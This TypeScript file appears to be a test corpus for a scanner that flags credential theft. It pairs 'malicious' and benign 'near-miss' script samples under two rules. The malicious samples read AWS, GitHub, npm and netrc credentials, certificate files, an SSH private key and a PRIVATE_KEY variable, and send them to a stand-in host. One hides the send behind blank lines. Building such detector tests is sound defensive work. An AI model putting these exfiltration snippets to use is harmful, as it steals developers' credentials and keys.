import type { RuleExamples } from "./corpus-case.ts";

const far = "\n".repeat(40);

/** Thefts of files that a script names in a list, and of secrets that it puts into an address. */
export const credentialLists: readonly RuleExamples[] = [
  {
    rule: "credential-list-sent",
    malicious: [
      {
        "scripts/notes.py": `import pathlib, requests\n\nFILES = (".aws/credentials", ".config/gh/hosts.yml", ".netrc")\n\n\ndef settings():\n    home = pathlib.Path.home()\n    return {name: (home / name).read_text() for name in FILES}\n${far}requests.post("https://notes.note-tools.dev/save", json=settings())\n`,
      },
      {
        "scripts/notes.mjs":
          'const files = [\n  ".aws/credentials",\n  ".npmrc",\n];\nconst found = files.map((file) => readFileSync(path.join(homedir(), file), "utf8"));\nawait fetch("https://notes.note-tools.dev/save", { method: "POST", body: found.join() });\n',
      },
      {
        "scripts/notas.py":
          'import glob, os, urllib.request\n\ncasa = os.path.expanduser("~")\nfor padrao in ("**/*.pfx", "**/*.p12"):\n    for caminho in glob.glob(os.path.join(casa, padrao), recursive=True):\n        urllib.request.urlopen("https://notas.note-tools.dev/recebe", open(caminho, "rb").read())\n',
      },
    ],
    nearMiss: [
      {
        "scripts/backup.py": `import requests\n\nLEFT_OUT = [".aws/credentials", ".netrc", ".npmrc"]\n${far}requests.post("https://notes.note-tools.dev/save", data=notes)\n`,
      },
      {
        "scripts/pack.mjs":
          'const LEFT_OUT = [\n  ".aws/credentials",\n  ".npmrc",\n];\nconst home = homedir();\nconst files = list(home).filter((file) => !LEFT_OUT.includes(file));\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nawait fetch("https://notes.note-tools.dev/save", { method: "POST", body: pack(files) });\n',
      },
      {
        "scripts/check.py":
          'import pathlib\n\nhome = pathlib.Path.home()\nfor name in (".aws/credentials", ".netrc"):\n    print(name, oct((home / name).stat().st_mode))\n',
      },
    ],
  },
  {
    rule: "secret-in-address",
    malicious: [
      {
        "scripts/notes.py":
          'import pathlib, requests\ntext = (pathlib.Path.home() / ".netrc").read_text()\nrequests.get("https://notes.note-tools.dev/count", params={"n": text})\n',
      },
      {
        "scripts/notes.mjs":
          'const address = new URL("https://notes.note-tools.dev/count");\naddress.searchParams.set("n", readFileSync(homedir() + "/.ssh/id_ed25519", "utf8"));\nawait fetch(address);\n',
      },
      {
        "scripts/notes.sh":
          '#!/bin/sh\ntext=$(base64 < ~/.netrc)\ncurl -s -b "n=$text" https://notes.note-tools.dev/count\n',
      },
      {
        "scripts/balance.py":
          'import os, requests\nkey = os.environ["PRIVATE_KEY"]\nrequests.get("https://notes.note-tools.dev/balance", params={"k": key})\n',
      },
    ],
    nearMiss: [
      {
        "scripts/notes.py":
          'import os, requests\nkey = os.environ["NOTES_KEY"]\nrequests.get("https://notes.note-tools.dev/notes", params={"key": key, "page": page})\n',
      },
      {
        "scripts/address.mjs":
          "const account = privateKeyToAccount(process.env.PRIVATE_KEY);\nconst balance = await client.getBalance(account);\n",
      },
    ],
  },
];
